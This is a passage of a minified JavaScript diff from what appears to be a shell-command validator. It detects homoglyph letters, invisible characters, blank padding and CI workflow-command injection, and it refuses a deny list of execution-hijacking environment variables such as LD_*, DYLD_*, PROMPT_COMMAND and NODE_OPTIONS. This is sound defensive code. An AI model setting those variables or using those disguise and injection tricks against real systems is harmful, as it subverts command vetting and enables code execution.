+length-(e.optional?1:0),max:e.many?Number.POSITIVE_INFINITY:t.length}}function G0(t,e,n){const{min:s,max:r}=ff(t);if(e.length<
 s||e.length>r)return;const i=[];for(const[o,a]of e.entries()){const c=t[Math.min(o,t.length-1)];if(typeof c=="object"){const{
-kind:u}=c,l=i.some(B=>B.kind==="script"),d=U0(c,a.text,l)??n(u,a.text);i.push({word:a,kind:u,...d&&{wrong:d}})}else if(c!==
-a.text)return}return i}function U0({kind:t,range:e},n,s){if(e!==void 0){const[i,o]=e;return/^[1-9]\d{0,8}$/.test(n)&&Number(
+kind:u}=c,l=i.some(B=>B.kind==="script"),d=H0(c,a.text,l)??n(u,a.text);i.push({word:a,kind:u,...d&&{wrong:d}})}else if(c!==
+a.text)return}return i}function H0({kind:t,range:e},n,s){if(e!==void 0){const[i,o]=e;return/^[1-9]\d{0,8}$/.test(n)&&Number(
 n)>=i&&Number(n)<=o?void 0:`is not a number from ${i} to ${o}`}return t!=="count"&&!s&&/^-./.test(n)?"starts with a dash":
-void 0}const J0=[["?=","attached"],["=","value"],["?","optional"],["*","many"],["+","rest"]];function Zr(t,e=n=>n){const n=new Map;
+void 0}const z0=[["?=","attached"],["=","value"],["?","optional"],["*","many"],["+","rest"]];function Zr(t,e=n=>n){const n=new Map;
 for(const[s,r]of Object.entries(t))for(const i of r.split(/\s+/).filter(Boolean)){const[,o=i,a]=/^([^=]+=)(.+)$/s.exec(i)??
-[],[c,u]=J0.find(([B])=>o.endsWith(B))??["","none"],[l="",...d]=o.slice(0,o.length-c.length).split(",");for(const B of[l,
+[],[c,u]=z0.find(([B])=>o.endsWith(B))??["","none"],[l="",...d]=o.slice(0,o.length-c.length).split(",");for(const B of[l,
 ...d]){const f=e(B);if(n.has(f))throw new Error(`flag ${B} stands in two groups`);n.set(f,{name:l,kind:s,arity:u,...a&&{
-choices:a.split("|")}})}}return n}function Cf(t){return new Map([...Zr(t)].map(([e,{kind:n}])=>[e,n]))}function Bs(t){return t.
-length===1?t:t.replace(/[-_]/g,"").toLowerCase()}const Kr={tools:new Map,allowed:new Map,known:new Map,offered:()=>{}};function yf({
-data:t},e){const n=t.completes&&e.startsWith("--");return t.directory_flags.some(s=>s===e||n&&s.startsWith(e))}function cn(t,e=[]){
-const{flags:n,starts:s,behind:r}=t,i=s!==void 0&&s!=="command-texts"&&s!=="npm-scripts";return{...Wr([n,...e,_f]),stops:i,
-readsBehind:t.reads_behind,handsOn:t.hands_on,data:t,places:sa(t.operands??"path*")??[],refused:Wr([t.refused]),behind:r&&
-Wr([r.flags,_f]),subcommands:new Map}}function Z0(t,e,n={}){const{completes:s}=e,r=(c,...u)=>({...cn(c,[...u,n]),completes:s,
-subcommands:new Map}),{subcommands:i,...o}=e,a=r(o);for(const[c,u]of Object.entries(i)){const l=c.split(" "),d=(l.pop()??
-"").split(","),B=l.reduce((h,m)=>{const g=h.subcommands.get(m)??r({alone:"only-prints"},e.flags);return wf(h,m,g)},a),f=r(
-u,e.flags);for(const h of d)wf(B,h,f)}return{program:t,use:a,data:e}}function wf(t,e,n){return t.subcommands.set(e,n),t.
-stops=!0,n}function bf(t,e=[]){const n=i=>i.startsWith("-")?i:`${i.length===1?"-":"--"}${i}`,s=Wr([t,{text:e.join(" ")}],
-n),r=new Map([...s.flags].map(([i,o])=>[i,{...o,name:n(o.name)}]));return{...s,flags:r,strict:!0}}const _f={"only-prints":"\
-help h version v V"};function Wr(t,e=Bs){const n=new Map,s=[];for(const r of t)for(const[i,o]of Zr(r??{},e))i.endsWith("\
-~")?s.push([i.slice(0,-1),o]):n.has(i)||n.set(i,o);return{flags:n,prefixes:s}}function ra({flags:t,prefixes:e},n){return t.
-get(n)??e.find(([s])=>n.startsWith(s))?.[1]}const K0=[{programs:["rollup"],flags:{text:`
+choices:a.split("|")}})}}return n}function hf(t){return new Map([...Zr(t)].map(([e,{kind:n}])=>[e,n]))}function Bs(t){return t.
+length===1?t:t.replace(/[-_]/g,"").toLowerCase()}function Us({known:t,refusal:e},n){return t(n)!==void 0||e(n)!==void 0}
+function pf({data:t},e){const n=t.completes&&e.startsWith("--");return t.directory_flags.some(s=>s===e||n&&s.startsWith(
+e))}function Ht(t,e=[]){const{flags:n,starts:s,behind:r}=t,i=s!==void 0&&s!=="command-texts"&&s!=="npm-scripts";return{...Kr(
+[n,...e,Cf]),stops:i,readsBehind:t.reads_behind,handsOn:t.hands_on,data:t,places:sa(t.operands??"path*")??[],refused:Kr(
+[t.refused]),behind:r&&Kr([r.flags,Cf]),subcommands:new Map}}function U0(t,e,n={}){const{completes:s}=e,r=(c,...u)=>({...Ht(
+c,[...u,n]),completes:s,subcommands:new Map}),{subcommands:i,...o}=e,a=r(o);for(const[c,u]of Object.entries(i)){const l=c.
+split(" "),d=(l.pop()??"").split(","),B=l.reduce((h,m)=>{const g=h.subcommands.get(m)??r({alone:"only-prints"},e.flags);
+return mf(h,m,g)},a),f=r(u,e.flags);for(const h of d)mf(B,h,f)}return{program:t,use:a,data:e}}function mf(t,e,n){return t.
+subcommands.set(e,n),t.stops=!0,n}function gf(t,e=[]){const n=i=>i.startsWith("-")?i:`${i.length===1?"-":"--"}${i}`,s=Kr(
+[t,{text:e.join(" ")}],n),r=new Map([...s.flags].map(([i,o])=>[i,{...o,name:n(o.name)}]));return{...s,flags:r,strict:!0}}
+const Cf={"only-prints":"help h version v V"};function Kr(t,e=Bs){const n=new Map,s=[];for(const r of t)for(const[i,o]of Zr(
+r??{},e))i.endsWith("~")?s.push([i.slice(0,-1),o]):n.has(i)||n.set(i,o);return{flags:n,prefixes:s}}function ra({flags:t,
+prefixes:e},n){return t.get(n)??e.find(([s])=>n.startsWith(s))?.[1]}const J0={known:()=>{},refusal:()=>{},unknown:()=>Ht(
+{unknown:!0}),module:Ht({unknown:!0})},qr={tools:J0,allowed:new Map,known:new Map,offered:()=>{}};function jn(t,e){if(e===
+"")return t;const n=yf.get(t)??new Map;yf.set(t,n);const s=n.get(e)??Z0(t,e);return n.set(e,s),s}const yf=new WeakMap;function Z0(t,e){
+const n=`${e}/`,s=a=>a===""?e:n+a,r=a=>({...a,path:a.path===e?"":a.path.slice(n.length)}),{original:i,isPending:o}=t;return{
+label:t.label,...i&&{original:jn(i,e)},...o&&{isPending:a=>o(s(a))},stat:a=>{const c=t.stat(s(a));return c&&r(c)},readlink:a=>t.
+readlink(s(a)),list:a=>t.list(s(a)).map(r),files:()=>[...t.files()].filter(({path:a})=>a.startsWith(n)).map(r),read:(a,c)=>t.
+read(s(a),c)}}const wf={"unquoted-glob":"warning","environment-assignment":"warning","tool-writes":"warning","skips-test\
+s":"warning",weakens:"warning","tool-runs-file":"warning","only-prints":"warning","checks-syntax-only":"warning","absolu\
+te-path":"warning","tool-unknown":"warning","target-not-judged":"notice","dependency-not-compared":"warning","not-instal\
+led":"notice","build-files-unread":"notice","target-changed":"notice","script-unreadable":"warning","target-writes":"war\
+ning","npm-script-missing":"warning","npm-script-text":"warning","workspaces-changed":"warning"};function be(t,e,n,s=K0(
+t)){return{rule:t,args:n,span:e,severity:s}}function K0(t){return t in wf?wf[t]:"error"}function Dn(t,e){return t.rule===
+e}function bf(t){return t.split(/\s+/).flatMap(([e="",...n])=>n.map(s=>[s,e]))}const _f=new Map(bf(`a\u0430\u0251\u03B1 b\u042C\u0185 c\u0441\u03F2\u217D d\u0501\u0257 e\u0435\
+\u04BD f\u0192 g\u0261\u0581 h\u04BB\u0570 i\u0456\u0131\u03B9\u0269 j\u0458\u03F3 k\u03BA\u043A l\u04CF\u01C0 m\u043C n\u043F\u0578\u03B7 o\u043E\u03BF\u0585 p\u0440\u03C1 q\u051B\u0566 r\u0433 s\u0455 t\u0442\u03C4
+   u\u057D\u03C5 v\u03BD\u0475 w\u051D\u03C9 x\u0445\u03C7 y\u0443\u03B3 z\u1D22 A\u0410\u0391 B\u0412\u0392 C\u0421\u03F9 E\u0415\u0395 H\u041D\u0397 I\u0406\u0399\u04C0 J\u0408 K\u041A\u039A M\u041C\u039C N\u039D O\u041E\u039F P\u0420\u03A1 S\u0405 T\u0422\u03A4 X\u0425\u03A7 Y\u04AE\u03A5
+   Z\u0396\u13C3 A\u13AA B\u13F4 C\u13DF D\u13A0 E\u13AC G\u050C\u13C0 H\u13BB J\u13AB K\u13E6 L\u13DE M\u13B7 P\u13E2 R\u13A1 S\u13DA T\u13A2 V\u13D9\u0474 W\u13B3\u051C Y\u13A9 Q\u051A`));
+function Ef(t){return[...t].map(e=>_f.get(e)??e).join("")}const q0=new Map([...[..._f].filter(([,t])=>t===t.toLowerCase()),
+...bf("a\xAA b\u044C c\u1D04 e\u0454\u212F\u212E\u025B g\u01E5\u018D i\u04CF k\u1D0B l\u217C| m\u1D0D n\u057C o\u03C3 r\u1D26 s\uA731 t\u1D1B u\u0446\u028B v\u1D20 w\u0448\u0461 y\u04AF\u028F -\u2010\u2011\u2012\u2013\u2014\u2015\u2212\u2043\u02D7\uFE58 .\u2024\u3002 /\u2044\u2215")]);
+function gz(t){return[...t.normalize("NFKD").toLowerCase().normalize("NFKD").replace(/[\p{Mark}\p{Default_Ignorable_Code_Point}\p{Control}\p{Format}]/gu,
+"")].map(n=>q0.get(n)??n).join("")}const W0=/^[\p{Cf}\p{Co}\p{Cn}\p{Z}\p{Default_Ignorable_Code_Point}]$/u;function kf(t){
+if(t>=32&&t<127||t===9)return"visible";if(t===0)return"nul-character";if(t===10||t===13)return"line-break";if(t<160||t>=
+55296&&t<=57343)return"control-character";const e=String.fromCodePoint(t);return W0.test(e)?"invisible-character":"visib\
+le"}function ia(t){return`U+${t.toString(16).toUpperCase().padStart(4,"0")}`}function Tt(t,e=120){const n=t.length>e?`${t.
+slice(0,e)}\u2026`:t;let s="";for(const r of n){const i=r.codePointAt(0)??0,o=i!==9&&kf(i)==="visible";s+=o?r:`<${ia(i)}\
+>`}return s}function Mn(t,e,n,s){let r=e;for(const i of t)V0(i,r,n,s),r+=i.length}function V0(t,e,n,s){const r=t.codePointAt(
+0)??0,i={start:e,end:e+t.length},o=ia(r),a=kf(r);if(a==="line-break"?s.add(a,i,{character:o,quoted:n}):a!=="visible"&&s.
+add(a,i,{character:o}),a!=="visible"||r<=126)return;const c=t.normalize("NFKC");c!==t.normalize("NFC")||/[\0-\x7f]/.test(
+c)?s.add("look-alike-letters",i,{word:t,looks_like:c,characters:[o]}):n||s.add("non-ascii-unquoted",i,{character:o,shown:t})}
+const Y0=/\p{L}+/gu;function X0(t,e,n,s){if(/^[\x00-\x7f]*$/.test(t)||!n&&/\s/.test(t))return;const r=n?Q0(t):ex(t);if(r===
+void 0)return;const i=[...new Set(t)].filter(o=>o>"\x7F");s.add("look-alike-letters",{start:e.start,end:e.end},{word:Tt(
+t),looks_like:Tt(r),characters:i.slice(0,10).map(o=>ia(o.codePointAt(0)??0))})}function Q0(t){const e=t.normalize("NFKD").
+replace(/\p{M}/gu,""),n=Ef(e);return/^[\x20-\x7e]+$/.test(n)?n:void 0}function ex(t){let e=!1;const n=t.replace(Y0,s=>{const r=Ef(
+s);return r===s||!/[A-Za-z]/.test(s)?s:(e=!0,r)});return e?n:void 0}const tx=100,nx=1e3;function sx(t,e){let n=0,s=0;for(let r=0;r<=
+t.length;r+=1){const i=t.charAt(r);if(i===" "||i==="	")continue;const o=r-s;if(o>1&&(n+=o-1),o>=tx||n>=nx){const a=Math.
+max(o,n);e.add("blank-padding",{start:s,end:r},{blanks:a});return}s=r+1}}const rx=/##\[|(?<!\w)::(?:set-output|set-env|save-state|add-path|add-mask|add-matcher|remove-matcher|debug|notice|warning|error|group|endgroup|stop-commands|echo|internal-set-repo-path)(?: |::)/i,
+ix=/<!--|```/;function oa(t,e,n){const s=({index:o,0:a})=>n??{start:o,end:o+a.length},r=rx.exec(t);r&&e.add("workflow-co\
+mmand",s(r),{written:Tt(r[0])});const i=ix.exec(t);i&&e.add("markup-injection",s(i),{written:i[0]})}function Wr(t){const[
+e]=t.parts;return t.parts.length===1&&e?e.text:t.parts.map(n=>n.text).join("")}function ox(t){const[e]=t.parts;return t.
+parts.length===1&&e&&!e.quoted?e.text:void 0}class vf{#e=[];add(e,n,s){this.#e.push(be(e,n,s))}inOrder(){const e=({severity:n})=>n===
+"error"?0:1;return this.#e.sort((n,s)=>n.span.start-s.span.start||e(n)-e(s))}}function Df(t){const e=new Set;return t.filter(
+({rule:n,severity:s})=>{if(s!=="error")return!0;const r=!e.has(n);return e.add(n),r})}const Js=/^[\w.-]{0,64}$/,xf=/^(?:C|POSIX|(?:C|[a-z]{2,3}_[A-Z]{2})\.(?:UTF-8|utf8))$/,
+ax=/^(?:\.\/)?(?:[\w-][\w.-]*\/)*[\w-][\w.-]*\.json$/,cx=/^\d{1,9}$/,Gn=/^(?:|[01]|true|false|yes|no|on|off)$/i,Of=new Map(
+[["NODE_ENV",Js],["CI",Js],["FORCE_COLOR",Js],["NO_COLOR",Js],["DEBUG",/^[\w.:*,@/-]{0,256}$/],["TZ",/^[A-Za-z](?:[\w+-]|\/(?=[A-Za-z])){0,63}$/],
+["LANG",xf],["LC_ALL",xf],["NODE_NO_WARNINGS",Gn],["PYTHONDONTWRITEBYTECODE",Gn],["PYTHONUNBUFFERED",Gn],["PYTHONHASHSEE\
+D",/^(?:random|\d{1,9})$/],["RUST_BACKTRACE",/^(?:[01]|full)$/],["RUSTFLAGS",/^-D ?warnings$/],["RUSTDOCFLAGS",/^-D ?warnings$/],
+["NODE_DEBUG",/^[\w,*:-]{0,256}$/],["UV_THREADPOOL_SIZE",/^\d{1,4}$/],["TS_NODE_PROJECT",ax],["TS_NODE_TRANSPILE_ONLY",Gn],
+["TS_NODE_FILES",Gn],["TS_NODE_SKIP_PROJECT",Gn]]),ux=[[/(?:^|_)(?:HOST|HOSTNAME)$/,/^(?:localhost|127\.0\.0\.1|0\.0\.0\.0|::1?)$/],
+[/(?:_ENV|(?:^|_)(?:LOG_?LEVEL|MODE|NAME|STAGE|SUITE|TEST))$/,Js]],Af="NODE_OPTIONS",lx=/^--(?:(?:no-)?(?:warnings|deprecation|experimental-(?:abortcontroller|detect-module|eventsource|fetch|global-navigator|global-webcrypto|require-module|sqlite|strip-types|test-coverage|test-module-mocks|test-snapshots|transform-types|vm-modules|websocket|worker)|network-family-autoselection|strip-types)|enable-source-maps|expose-gc|frozen-intrinsics|pending-deprecation|throw-deprecation|trace-(?:deprecation|exit|uncaught|warnings)|unhandled-rejections=(?:strict|throw)|test-(?:concurrency|timeout)=\d+|disable-warning=\w+|dns-result-order=(?:ipv4first|ipv6first|verbatim)|max-(?:old|semi)-space-size=\d+|max-http-header-size=\d+|stack-trace-limit=\d+)$/;
+function Sf(t){return t.split(" ").every(e=>lx.test(e.replaceAll("_","-")))}function aa(t,e){if(t===Af)return Sf(e);const n=Of.
+get(t);return n!==void 0?n.test(e):Tf(t)?ux.some(([r,i])=>r.test(t)&&i.test(e))||Gn.test(e)||cx.test(e):!1}const dx=/^(?:CONCURRENCY|COVERAGE|E2E|FAST|HOST|HOSTNAME|LOGLEVEL|MODE|OFFLINE|PORT|QUIET|RETRIES|SEED|SILENT|SKIP|SLOW|STAGE|TEST|TIMEOUT|VERBOSE|WORKERS)$/;
+function Tf(t){return/^[A-Z][A-Z\d]*(?:_[A-Z\d]+)+$/.test(t)?!If(t):dx.test(t)}function Bx(t){return t===Af||Of.has(t)||
+Tf(t)}const fx=/^([A-Za-z_][A-Za-z0-9_]*)(\+?)=/;function hx(t,e){const n=[],s=[];let r=0;for(const i of t){const[o]=i.parts,
+a=o&&!o.quoted?fx.exec(o.text):null;if(!a)break;r+=1;const[c,u="",l]=a,d=Wr(i).slice(c.length),B={start:i.start,end:i.end};
+if(!l&&aa(u,d))n.push({name:u,value:d,span:B}),e.add("environment-assignment",B,{name:u,value:Tt(d)});else{const f=!l&&Bx(
+u);e.add("assignment-refused",B,{name:u,value:Tt(d),known:f}),l||s.push({name:u,value:d,span:B})}}return{assignments:n,refused:s,
+count:r}}const px=`
+  BASH_~ BASHOPTS ENV HOME IFS PATH PROMPT_COMMAND PS4 SHELL SHELLOPTS XDG_CONFIG_HOME ZDOTDIR
+  DYLD_~ GLIBC_~ LD_~ LIBRARY_~ MALLOC_~
+  C8_~ COVERAGE_~ ELECTRON_~ INIT_CWD MOCHA_OPTIONS AVA_~ NODE NODE_~ NVM_~ NYC_~
+  TAP_~ TS_NODE_~ TSX_~ WEBPACK_~
+  BUN_~ COREPACK_~ DENO_~ NPM_~ npm_execpath npm_node_execpath PNPM_~ YARN_~
+  CONDA_~ PIP_~ POETRY_~ PYTEST_~ PYTHON~ TOX_~ UV_~ VIRTUAL_~
+  BUNDLE_~ GEM_~ LUA_~ PERL~ PHP_~ RUBY~
+  CARGO_~ GOPATH~ GOROOT~ GOTOOLCHAIN~ RUST~
+  CLASSPATH GRADLE_~ JAVA~ JDK~ MAVEN_~ MVN_~
+  _JAVA_OPTIONS _JAVA_TOOL_OPTIONS
+  CMAKE_~ COMPLUS_~ CORECLR_~ DOTNET_~ GCC_~ GNUMAKEFLAGS MAKE~ MSBUILD_~
+  GIT_~
+  BROWSER_ARGS DOCKER_~ EDITOR_~ OPENSSL_~ SSH_~ SSL_~ SUDO_~ XDG_~
+`.match(/\S+/g),mx=new RegExp(`^(?:${px.join("|").replaceAll("~",".*")}|[A-Z]+_INCLUDE_PATH|[A-Z]+_PROXY)$`,"s");function If(t){
+return mx.test(t)}function gx(t){if(!t.parts.some(a=>!a.quoted&&/[*?[]/.test(a.text)))return;const e=t.parts.flatMap(({text:a,
+quoted:c})=>Array.from(a,u=>({character:u,active:!c}))),n=e.findLastIndex(({character:a,active:c})=>c&&a==="]"),s=[];let r,
+i;for(let a=0;a<e.length;){const c=Cx(e,a,n);c?(r??=Rf(s),i??=c.ambiguity,c.element.kind==="many"&&s.at(-1)?.kind==="man\
+y"||s.push(c.element),a=c.end):(s.push({kind:"literal",character:e[a]?.character??""}),a+=1)}return r===void 0?void 0:{text:e.
+map(({character:a})=>a).join(""),prefix:r,segments:bx(s),...i&&{ambiguity:i}}}function Cx(t,e,n){const s=t[e];return s?.
+active?s.character==="*"?{element:{kind:"many"},end:e+1}:s.character==="?"?{element:{kind:"one"},end:e+1}:s.character!==
+"["||n<e?void 0:yx(t,e)??{element:{kind:"one"},end:e+1,ambiguity:"bracket"}:void 0}function yx(t,e){let n=e+1;const s=Vr(
+t[n],"!");s&&(n+=1);const r=new Set;for(;!Vr(t[n],"]");){const i=$f(t[n]);if(i===void 0)return;const o=Vr(t[n+1],"-")?$f(
+t[n+2]):i;if(o===void 0||!wx(i,o))return;n+=Vr(t[n+1],"-")?3:1;for(let a=i.charCodeAt(0);a<=o.charCodeAt(0);a+=1)r.add(String.
+fromCharCode(a))}if(r.size!==0)return{element:{kind:"set",negated:s,members:r},end:n+1}}function Vr(t,e){return t?.active===
+!0&&t.character===e}function $f(t){return t&&/^[A-Za-z0-9_.,@%+]$/.test(t.character)?t.character:void 0}function wx(t,e){
+if(t===e)return!0;const n=[/[a-z]/,/[A-Z]/,/[0-9]/];return t<e&&n.some(s=>s.test(t)&&s.test(e))}function Rf(t){return t.
+map(e=>e.kind==="literal"?e.character:"").join("")}function bx(t){const e=[[]];for(const n of t)n.kind==="literal"&&n.character===
+"/"?e.push([]):e.at(-1)?.push(n);return e}function ca(t){return t.every(({kind:e})=>e==="literal")?Rf(t):void 0}const Nf=t=>Array.
+from(t),_x=t=>Array.from(Buffer.from(t).toString("latin1"));function Ff(t,e){const[n]=t;if(e.startsWith(".")&&!(n?.kind===
+"literal"&&n.character==="."))return!1;const s=ua(t,e,Nf);return/^[\x20-\x7e]*$/.test(e)||s===ua(t,e,_x)?s:void 0}function Ex(t,e){
+const n=Array.from(e,s=>s==="*"?{kind:"many"}:{kind:"literal",character:s});return ua(n,t,Nf)}function ua(t,e,n){const s=t.
+flatMap(c=>c.kind==="literal"?n(c.character).map(u=>({kind:"literal",character:u})):c),r=n(e);let i=0,o=-1,a=0;for(let c=0;c<
+r.length;)if(s[i]?.kind==="many")o=i,a=c,i+=1;else if(kx(s[i],r[c]))i+=1,c+=1;else if(o>=0)i=o+1,a+=1,c=a;else return!1;
+return s.slice(i).every(({kind:c})=>c==="many")}function kx(t,e=""){return t?.kind==="literal"?t.character===e:t?.kind===
+"set"?t.members.has(e)!==t.negated:t?.kind==="one"}const vx=20,Dx=4096,Lf=64;function xx(t,e,n){const{pattern:s,span:r,position:i}=t,
+o=Tt(s.text),a=Sx(s);let c=[];if(i==="program")n.add("glob-unclear",r,{pattern:o,reason:"program"});else if(Tx(s))n.add(
+"glob-unclear",r,{pattern:o,reason:"outside"});else if(!Ax(s,e))if(a)n.add("glob-unclear",r,{pattern:o,reason:a});else if(Ix(
+s))n.add("glob-unclear",r,{pattern:o,reason:"flag"});else if(e)c=Ox(t,e,n);else if(i==="script"&&$x(s))n.add("glob-uncle\
+ar",r,{pattern:o,reason:"program"});else{const u={matches:[],count:0,judged:!1};n.add("unquoted-glob",r,{pattern:o,...u})}
+return c.length===0?[s.text]:c}function Ox({pattern:t,span:e,position:n},s,r){const i=Tt(t.text),o=Fx(t,s),a="matches"in
+o&&!o.matches.every(Rx);if("ambiguity"in o||a){const d="ambiguity"in o?o.ambiguity:"file_name";return r.add("glob-unclea\
+r",e,{pattern:i,reason:d}),[]}const{matches:c}=o;c.some(d=>d.startsWith("-"))&&r.add("glob-unclear",e,{pattern:i,reason:"\
+flag"}),n==="script"&&c.length>1&&r.add("glob-unclear",e,{pattern:i,reason:"program"});const u=c.slice(0,vx).map(d=>Tt(d)),
+{length:l}=c;return r.add("unquoted-glob",e,{pattern:i,matches:u,count:l,judged:!0}),c}function Ax({prefix:t,text:e},n){
+return t.includes("://")&&!n?.stat(e.slice(0,e.indexOf("/")))}function Sx({text:t,segments:e,ambiguity:n}){return n||(t.
+length>Dx?"too_many":e.some(r=>ca(r)===void 0&&Ff(r,".."))?"dot":void 0)}function Tx({text:t,segments:e}){return t.startsWith(
+"/")||e.some(n=>ca(n)==="..")}function Ix({prefix:t}){return t.startsWith("-")&&!t.includes("=")}function $x({segments:t}){
+return t.some(e=>e.some(({kind:n})=>n==="many"))}function Rx(t){const e=new vf;return Mn(t,0,!0,e),e.inOrder().length===
+0}const Nx=128*1024;function Fx(t,e){let n=[{written:"",path:""}];for(const[i,o]of t.segments.entries()){const a=i===t.segments.
+length-1,c=[];for(const u of n){const l=Lx(u,o,a,e);if(typeof l=="string")return{ambiguity:l};c.push(...l)}n=c}const s=n.
+map(({written:i})=>Buffer.from(i));return s.reduce((i,o)=>i+o.length+1,0)>Nx?{ambiguity:"too_many"}:{matches:s.sort(Buffer.
+compare).map(i=>i.toString())}}function Lx(t,e,n,s){const{written:r,path:i}=t,o=ca(e);if(o==="")return n?[t]:"empty_segm\
+ent";const a=n?"":"/";if(o===".")return[{written:`${r}.${a}`,path:i}];const c=[];for(const u of Px(i,e,o,s)){if(u==="let\
+ters")return"letters";if(!n&&jx(u,s))return"symlink";!n&&u.kind!=="directory"||c.push({written:`${r}${ie.posix.basename(
+u.path)}${a}`,path:u.path})}return c}function*Px(t,e,n,s){if(n!==void 0){const r=s.stat(t===""?n:`${t}/${n}`);r?.tracked&&
+(yield r);return}for(const r of s.list(t)){if(!r.tracked)continue;const i=Ff(e,ie.posix.basename(r.path));i===void 0?yield"\
+letters":i&&(yield r)}}function jx(t,e){if(t.kind!=="symlink")return t.kind==="submodule";const n=Ve(e,t.path);return n.
+kind==="missing"?!1:n.kind!=="inside"||!/^(?:file|executable)$/.test(n.entry.kind)}const Yr=t=>new Set(t.split(/\s+/)),Mx=Yr(
+": [ cd echo exit false test true"),la=Yr("! { do elif else if then time until while"),Gx=new RegExp(`^\\s*(?:(?:${[...la].
+join("|").replace("{","\\{")})\\s+)*$`),Hx=Yr("fi done case esac for } in [[ ]] function select coproc"),zx=Yr(`. alias \
+autoload bg bind break builtin caller chdir command compgen complete compopt continue
+  declare dirs disown enable eval exec export fc fg functions getopts hash help histexpand history integer
+  jobs kill let local logout mapfile popd print printf pushd pwd r read readarray readonly return set shift shopt
+  source suspend times trap type typeset ulimit umask unalias unset wait whence`);function da(t){return Mx.has(t)}function Ux(t){
+return la.has(t)}function Jx(t){return Gx.test(t)}function Pf(t){return la.has(t)||Hx.has(t)}function Ba(t){return Pf(t)||
+zx.has(t)}const jf=1e3,Mf=/[ \t\n\r'"\\$`;&|<>()]/g;function Zx(t,e){return new Kx(t,e).split()}class Kx{#e;#t;#s=[];#i=[];#r=0;#n=0;#c=0;constructor(e,n){
+this.#e=e,this.#t=n}split(){for(;this.#n<this.#e.length;)this.#u();if(this.#a(),this.#c>jf){const e={start:0,end:this.#e.
+length};this.#t.add("command-too-long",e,{more:`${jf} quoted parts`})}return this.#s}#u(){switch(this.#e.charAt(this.#n)){case"\
+ ":case"	":this.#a(),this.#n+=1;break;case`
+`:case"\r":this.#a(),Mn(this.#e.charAt(this.#n),this.#n,!1,this.#t),this.#n+=1;break;case"'":this.#p();break;case'"':this.#h();
+break;case"\\":this.#m();break;case"$":this.#l(!1);break;case"`":this.#g(!1);break;case";":case"&":case"|":case"<":case"\
+>":case"(":case")":this.#a(),this.#n=Qx(this.#e,this.#n,this.#t);break;case"#":this.#i.length===0?this.#y():this.#B();break;default:
+this.#B()}}#o(e,n,s,r=s){this.#i.length===0&&(this.#r=r),this.#i.push({text:e,quoted:n,start:s})}#a(){this.#i.length!==0&&
+(this.#s.push({parts:this.#i,start:this.#r,end:this.#n}),this.#i=[])}#B(){const e=this.#n;Mf.lastIndex=e+1;const n=Mf.exec(
+this.#e)?.index??this.#e.length,s=this.#e.slice(e,n);Mn(s,e,!1,this.#t),this.#o(s,!1,e),this.#n=n}#p(){const e=this.#n,n=this.#e.
+indexOf("'",e+1),s=n<0?this.#e.length:n,r=this.#e.slice(e+1,s);Mn(r,e+1,!0,this.#t),this.#o(r,!0,e+1,e),this.#d(e,s,"'")}#h(){
+const e=this.#n,n=this.#e;let s="",r=e+1;for(this.#n=r;this.#n<n.length&&n.charAt(this.#n)!=='"';){const o=n.charAt(this.#n);
+o==="\\"&&/["$`\\\n]/.test(n.charAt(this.#n+1))?(s+=n.slice(r,this.#n),n.charAt(this.#n+1)===`
+`&&this.#f(),r=this.#n+1,this.#n+=2):o==="$"?this.#l(!0):o==="`"?this.#g(!0):this.#n+=1}const i=Math.min(this.#n,n.length);
+s+=n.slice(r,i),Mn(n.slice(e+1,i),e+1,!0,this.#t),this.#o(s,!0,e+1,e),this.#d(e,i,'"')}#d(e,n,s){this.#c+=1,this.#n=Math.
+min(n+1,this.#e.length),!(n<this.#e.length)&&this.#t.add("unterminated-quote",{start:e,end:n},{quote:s})}#m(){const e=this.#n,
+n=this.#e.charAt(e+1);this.#n+=1,n===""?(this.#t.add("unterminated-quote",{start:e,end:e+1},{quote:"\\"}),this.#o("\\",!0,
+e)):n===`
+`?(this.#n=e,this.#f(),this.#n+=2):n>"\x7F"?this.#o("",!0,e+1,e):(Mn(n,e+1,!0,this.#t),this.#o(n,!0,e+1,e),this.#n+=1)}#f(){
+this.#t.add("line-continuation",{start:this.#n,end:this.#n+2},{})}#l(e){const n=Yx(this.#e,this.#n,e);n?this.#C(n.kind,n.
+end,e):(e||this.#o("$",!1,this.#n),this.#n+=1)}#g(e){const n=Xx(this.#e,this.#n);this.#C("command-substitution",n,e)}#C(e,n,s){
+const r=this.#n,i=this.#e.slice(r,n);this.#t.add(e,{start:r,end:n},{written:Tt(i)}),s||this.#o(i,!0,r),this.#n=n}#y(){const e=this.#n,
+n=this.#e.indexOf(`
+`,e);this.#n=n<0?this.#e.length:n;const s=this.#e.slice(e,this.#n);Mn(s,e,!1,this.#t),this.#t.add("shell-comment",{start:e,
+end:this.#n},{written:Tt(s)})}}const qx=/[A-Za-z_]/,Wx=/[A-Za-z0-9_]/,Vx=/[0-9@*#?$!-]/;function Yx(t,e,n){const s=t.charAt(
+e+1);if(s==="(")return{kind:t.charAt(e+2)==="("?"arithmetic-expansion":"command-substitution",end:fa(t,e+1,"(",")")};if(s===
+"{")return{kind:"variable-expansion",end:fa(t,e+1,"{","}")};if(s==="[")return{kind:"arithmetic-expansion",end:fa(t,e+1,"\
+[","]")};if(s==="'"||s==='"'){if(n)return;const r=t.indexOf(s,e+2);return{kind:"dollar-quote",end:r<0?t.length:r+1}}if(qx.
+test(s)){let r=e+2;for(;Wx.test(t.charAt(r));)r+=1;return{kind:"variable-expansion",end:r}}if(Vx.test(s)||s>"\x7F")return{
+kind:"variable-expansion",end:e+2}}function Xx(t,e){for(let n=e+1;n<t.length;n+=1){const s=t.charAt(n);if(s==="\\")n+=1;else if(s===
+"`")return n+1}return t.length}function fa(t,e,n,s){let r=0;for(let i=e;i<t.length;i+=1){const o=t.charAt(i);if(o===n)r+=
+1;else if(o===s&&(r-=1,r===0))return i+1}return t.length}function Qx(t,e,n){const s=t.charAt(e);if(s==="("||s===")")return n.
+add("shell-grammar",{start:e,end:e+1},{written:s}),e+1;const r=s==="<"||s===">",i=r?/[<>&|-]/:/[;&|]/;let o=e+1;for(;o-e<
+3&&i.test(t.charAt(o));)o+=1;const a=t.slice(e,o);return n.add(r?"shell-redirection":"shell-operator",{start:e,end:o},{operator:a}),
+o}const Gf=128*1024;function un(t,e){const n=new vf;if(eO(t,n))return{words:[],assignments:[],refused:[],problems:n.inOrder()};
+const s={start:0,end:t.length};sx(t,n),oa(t,n);const r=Zx(t,n),{assignments:i,refused:o,count:a}=hx(r,n);for(const u of r.
+slice(0,a))Hf(u,n);const c=tO(r.slice(a),e,n);c.length===0&&n.add("empty-command",s,{});for(const{value:u,span:l}of i)oa(
